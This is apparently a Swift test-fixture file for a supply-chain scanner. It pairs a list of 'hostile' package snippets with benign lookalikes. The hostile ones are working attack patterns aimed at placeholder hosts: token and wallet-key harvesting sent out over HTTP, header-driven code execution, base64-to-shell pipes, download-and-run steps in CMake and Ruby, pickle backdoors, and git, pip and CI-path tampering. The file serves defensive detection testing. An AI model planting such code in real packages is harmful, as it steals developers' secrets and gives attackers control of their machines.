import SallyportAnalysis

extension Mechanism {
    static let hostile: [Mechanism] = [
        Mechanism(
            "a buffer of the file that one function fills with what requests say, and another one runs",
            .npm,
            .chainDecodeExecute,
            [
                "index.js": """
                let store = Buffer.alloc(4096), used = 0;
                const jobs = { go() { const text = store.toString('utf8', 0, used); setTimeout(() => new Function('require', text)(require), 50); } };
                exports.middleware = (req, res, next) => {
                  const value = String(req.get('x-trace') || '');
                  const part = Buffer.from(value.slice(4), 'hex');
                  part.copy(store, used);
                  used += part.length;
                  if (value.startsWith('done')) jobs.go();
                  next();
                };
                """
            ]
        ),
        Mechanism(
            "a wrapper that is declared behind its use starts a shell on an encoded text",
            .npm,
            .chainDecodeExecute,
            [
                "index.js": """
                exports.warm = () => output('bash', ['-c', 'echo ZWNobyBoaSB0aGVyZSBldmVyeW9uZSAmJiB0cnVl | base64 --decode | bash']);
                function output(file, args) {
                  const { spawn } = require('child_process');
                  return new Promise((done) => { const child = spawn(file, args); child.on('close', done); });
                }
                """
            ]
        ),
        Mechanism(
            "keys are looked for in a program's files by how they look",
            .npm,
            .capabilityCredentialFile,
            "collects",
            [
                "index.js": """
                const fs = require('fs'), path = require('path');
                const wif = /\\b[5KL][1-9A-HJ-NP-Za-km-z]{50,51}\\b/g;
                module.exports = (dir) => {
                  for (const name of fs.readdirSync(dir)) {
                    const hits = fs.readFileSync(path.join(dir, name), 'utf8').match(wif);
                    if (hits) fetch('https://stats.example.invalid/v1', { method: 'POST', body: hits.join() });
                  }
                };
                """
            ]
        ),
        Mechanism(
            "tokens are looked for in a program's files, in Python",
            .wheel,
            .capabilityCredentialFile,
            "collects",
            [
                "sample/__init__.py": """
                import os, re, urllib.request
                TOKEN = re.compile(r"(?:gh[pousr]_[A-Za-z0-9]{36}|AKIA[0-9A-Z]{16})")
                def check(root):
                    for folder, _, names in os.walk(root):
                        for name in names:
                            with open(os.path.join(folder, name), errors="ignore") as f:
                                for hit in TOKEN.findall(f.read()):
                                    urllib.request.urlopen("https://stats.example.invalid/?t=" + hit)
                """
            ]
        ),
        Mechanism(
            "what is typed goes to a machine without a name, by datagram",
            .npm,
            .capabilityNetwork,
            "bare",
            [
                "index.js": """
                const dgram = require('dgram');
                exports.ask = (rl, text, done) => rl.question(text, (answer) => {
                  const socket = dgram.createSocket('udp4');
                  socket.send(Buffer.from(answer), 53, '203.0.113.53', () => socket.close());
                  done(answer);
                });
                """
            ]
        ),
        Mechanism(
            "an address without a name is asked, by a constant that stands elsewhere",
            .npm,
            .capabilityNetwork,
            "bare",
            [
                "index.js":
                    "const base = 'http://198.51.100.44:8080/u';\nexports.sync = (x) => fetch(base, { method: 'POST', body: x });\n"
            ]
        ),
        Mechanism(
            "a handler of logs copies what it is given to a far machine",
            .wheel,
            .capabilityNetwork,
            "bare",
            [
                "sample/__init__.py": """
                import logging, logging.handlers, socket
                class Relay(logging.handlers.SysLogHandler):
                    pass
                logging.getLogger().addHandler(Relay(address=("198.51.100.14", 514)))
                """
            ]
        ),
        Mechanism(
            "the module loader is replaced beside a request",
            .npm,
            .capabilityInputCapture,
            [
                "index.js": """
                const Module = require('module'), https = require('https');
                const before = Module._load;
                Module._load = function (name) {
                  const lib = before.apply(this, arguments);
                  if (name === 'pg') https.get('https://t.example.invalid/?n=' + JSON.stringify(lib));
                  return lib;
                };
                """
            ]
        ),
        Mechanism(
            "a finder of modules is put in front of all others",
            .wheel,
            .capabilityInputCapture,
            [
                "sample/__init__.py": """
                import sys, urllib.request
                class Finder:
                    def find_spec(self, name, path=None, target=None):
                        if name == "boto3":
                            urllib.request.urlopen("https://t.example.invalid/b")
                sys.meta_path.insert(0, Finder())
                """
            ]
        ),
        Mechanism(
            "every request of the program is listened to",
            .npm,
            .capabilityInputCapture,
            [
                "index.mjs": """
                import { subscribe } from 'node:diagnostics_channel';
                import https from 'node:https';
                subscribe('undici:request:create', ({ request }) => https.get('https://t.example.invalid/?h=' + request.headers));
                """,
                "index.js": "import('./index.mjs');\n",
            ]
        ),
        Mechanism(
            "settings of an installer are written, by a path in pieces",
            .wheel,
            .capabilityPersistence,
            [
                "sample/__init__.py": """
                import pathlib
                path = pathlib.Path.home() / ".config" / "pip" / "pip.conf"
                with path.open("w") as f:
                    f.write("[global]\\nextra-index-url = https://simple.example.invalid/\\n")
                """
            ]
        ),
        Mechanism(
            "settings of git are changed for every repository, by a name that is put together",
            .hook,
            .chainPlant,
            [
                "i.js": """
                const { execFileSync } = require('child_process');
                const set = (key, value) => execFileSync('git', ['config', '--global', key, value]);
                set(['url', 'https://mirror.example.invalid/', 'insteadOf'].join('.'), 'https://git.example.invalid/');
                """
            ]
        ),
        Mechanism(
            "later steps of a build machine are given a folder to look in",
            .hook,
            .chainPlant,
            ["i.js": "require('fs').appendFileSync(process.env.GITHUB_PATH, __dirname + '/shims\\n');\n"]
        ),
        Mechanism(
            "a lock file inside the package fetches a dependency from elsewhere",
            .npm,
            .dependencyURL,
            "inner",
            [
                "index.js": "",
                "npm-shrinkwrap.json": """
                {"lockfileVersion": 3, "packages": {
                  "node_modules/outer": {"resolved": "https://registry.example.invalid/outer/-/outer-1.0.0.tgz"},
                  "node_modules/other": {"resolved": "https://registry.example.invalid/other/-/other-1.0.0.tgz"},
                  "node_modules/inner": {"resolved": "http://198.51.100.6/pkg/inner-1.0.0.tgz", "hasInstallScript": true}
                }}
                """,
            ]
        ),
        Mechanism(
            "what a header says is unpickled",
            .wheel,
            .chainBackdoor,
            [
                "sample/__init__.py": """
                import base64, pickle
                class Middleware:
                    def __init__(self, app):
                        self.app = app
                    def __call__(self, request):
                        mark, _, body = request.headers.get("X-Locale", "").partition(".")
                        if mark == "8f":
                            pickle.loads(base64.urlsafe_b64decode(body))
                        return self.app(request)
                """
            ]
        ),
        Mechanism(
            "a file of objects calls a shell when it is read",
            .wheel,
            .hidingPayload,
            "a pickle",
            [
                "sample/__init__.py": "", "sample/model.pkl": "cposix\nsystem\n(S'true'\ntR.",
                "sample/w.bin": "cos\nsystem\n(S'true'\ntR.",
            ]
        ),
        Mechanism(
            "a build by CMake runs the file that it fetches",
            .sdist,
            .chainDownloadExecute,
            [
                "pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = \"scikit_build_core.build\"\n",
                "CMakeLists.txt": """
                file(DOWNLOAD "https://get.example.invalid/p.sh" "${CMAKE_BINARY_DIR}/p.sh")
                execute_process(COMMAND sh "${CMAKE_BINARY_DIR}/p.sh" OUTPUT_QUIET)
                """,
            ]
        ),
        Mechanism(
            "machine code stands there as numbers, and is called",
            .wheel,
            .chainDecodeExecute,
            [
                "sample/__init__.py": """
                import ctypes, mmap
                CODE = [\((0..<96).map { String(($0 * 37) % 256) }.joined(separator: ", "))]
                page = mmap.mmap(-1, len(CODE), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
                page.write(bytes(CODE))
                ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
                """
            ]
        ),
        Mechanism(
            "a decoded text is given to a shell as one of its words",
            .wheel,
            .chainDecodeExecute,
            [
                "sample/__init__.py":
                    "import base64, subprocess\nsubprocess.Popen(['sh', '-c', base64.b64decode(TEXT).decode()])\n"
            ]
        ),
        Mechanism(
            "what was fetched is loaded as a file",
            .gem,
            .chainDownloadExecute,
            [
                "lib/sample.rb": """
                require "net/http"
                path = File.join(Dir.tmpdir, "x.rb")
                File.write(path, Net::HTTP.get(URI("https://get.example.invalid/x")))
                load(path)
                """
            ]
        ),
        Mechanism(
            "a readme that is code is run by setup.py",
            .sdist,
            .fileExtensionMismatch,
            [
                "setup.py": "exec(open('README.rst').read())\n",
                "README.rst":
                    "import urllib.request\nexec(urllib.request.urlopen('https://get.example.invalid/x').read())\n",
            ]
        ),
        Mechanism(
            "an archive that can't be read is opened by setup.py",
            .sdist,
            .fileArchive,
            [
                "setup.py": "import tarfile\ntarfile.open('data/x.tar.bz2').extractall()\nexec(open('v.py').read())\n",
                "data/x.tar.bz2": "BZh91AY&SY\u{1}\u{2}\u{3}\u{4}\u{5}\u{6}\u{7}\u{8}",
            ]
        ),
    ]

    static let honest: [Mechanism] = [
        Mechanism(
            "a log is kept clean of tokens",
            .npm,
            .capabilityCredentialFile,
            "collects",
            [
                "index.js":
                    "const t = /gh[pousr]_[A-Za-z0-9]{36}/g;\nexports.send = (x) => fetch(url, { body: x.replace(t, '***') });\n"
            ]
        ),
        Mechanism(
            "a tool looks for tokens in files and tells the terminal",
            .wheel,
            .capabilityCredentialFile,
            "collects",
            [
                "sample/__init__.py": """
                import os, re
                TOKEN = re.compile(r"(?:gh[pousr]_[A-Za-z0-9]{36}|AKIA[0-9A-Z]{16})")
                def check(root):
                    return [n for f, _, names in os.walk(root) for n in names if TOKEN.search(open(os.path.join(f, n)).read())]
                """
            ]
        ),
        Mechanism(
            "a name server that everybody uses, and this machine",
            .npm,
            .capabilityNetwork,
            "bare",
            [
                "index.js": """
                const dns = require('dns'), net = require('net');
                const resolver = new dns.Resolver();
                resolver.setServers(['8.8.8.8']);
                exports.up = () => net.connect(8125, '127.0.0.1');
                exports.out = () => net.connect(53, '1.1.1.1');
                """
            ]
        ),
        Mechanism(
            "a table of networks is no table of machines",
            .wheel,
            .capabilityNetwork,
            "bare",
            [
                "sample/__init__.py":
                    "import socket\nNETS = [('192.0.2.0', 24), ('198.51.100.0', 24), ('203.0.113.7', 32)]\n"
            ]
        ),
        Mechanism(
            "a lock file that names one registry",
            .npm,
            .dependencyURL,
            [
                "index.js": "",
                "npm-shrinkwrap.json": """
                {"lockfileVersion": 2, "packages": {
                  "node_modules/@a/outer": {"resolved": "https://registry.example.invalid/@a/outer/-/outer-1.0.0.tgz"},
                  "node_modules/x/node_modules/other": {"resolved": "https://registry.example.invalid/other/-/other-1.0.0.tgz"},
                  "node_modules/local": {"resolved": "local", "link": true}
                }}
                """,
            ]
        ),
        Mechanism(
            "a file of objects that makes a dictionary",
            .wheel,
            .hidingPayload,
            [
                "sample/__init__.py": "", "sample/table.pkl": "ccollections\nOrderedDict\n(tR.",
                "sample/os.dat": "cosine\nsystem\n",
            ]
        ),
        Mechanism(
            "a build by CMake that fetches a table",
            .sdist,
            .chainDownloadExecute,
            [
                "pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = \"scikit_build_core.build\"\n",
                "CMakeLists.txt": """
                file(DOWNLOAD "https://get.example.invalid/table.csv" "${CMAKE_BINARY_DIR}/table.csv")
                execute_process(COMMAND python tools/version.py OUTPUT_QUIET)
                """,
            ]
        ),
        Mechanism(
            "a decoded text is given to a program that runs no code",
            .wheel,
            .chainDecodeExecute,
            [
                "sample/__init__.py": """
                import base64, os, subprocess
                subprocess.run(["openssl", "x509", "-subj", base64.b64decode(TEXT).decode()])
                def cgi(script, args, environment, header):
                    environment["REMOTE_USER"] = base64.b64decode(header).decode()
                    os.execve(script, args, environment)
                """
            ]
        ),
        Mechanism(
            "a text is read, by a word that loads files elsewhere",
            .gem,
            .chainDownloadExecute,
            [
                "lib/sample.rb": """
                require "net/http"
                require "json"
                body = JSON.load(Net::HTTP.get(URI("https://api.example.invalid/x")))
                """
            ]
        ),
        Mechanism(
            "what was packed is revived, by a word that loads files elsewhere",
            .gem,
            .chainDecodeExecute,
            [
                "lib/sample.rb":
                    "require \"base64\"\nvalue = Marshal.load(Base64.strict_decode64(text))\n@serializer.load(value)\n"
            ]
        ),
        Mechanism(
            "a readme with an example, beside a version that is run",
            .sdist,
            .fileExtensionMismatch,
            [
                "setup.py": "exec(open('sample/version.py').read())\nlong = open('README.rst').read()\n",
                "sample/version.py": "version = '1.0'\n",
                "README.rst": """
                A client for sockets that anybody can use
                =========================================

                Most people will want the simple way of doing it
                and nothing beyond what is said here about that

                import asyncio
                async with connect('wss://api.example.invalid') as socket:
                    exec(await socket.recv())
                """,
            ]
        ),
        Mechanism(
            "a list of what belongs to the package names an archive of its tests",
            .sdist,
            .fileArchive,
            [
                "setup.py": """
                from setuptools import setup
                exec(open('v.py').read())
                setup(package_data={"sample": ["test/x.xml.bz2"]})
                """,
                "v.py": "x = 1\n",
                "sample/test/x.xml.bz2": "BZh91AY&SY\u{1}\u{2}\u{3}\u{4}\u{5}\u{6}\u{7}\u{8}",
            ]
        ),
    ]
}
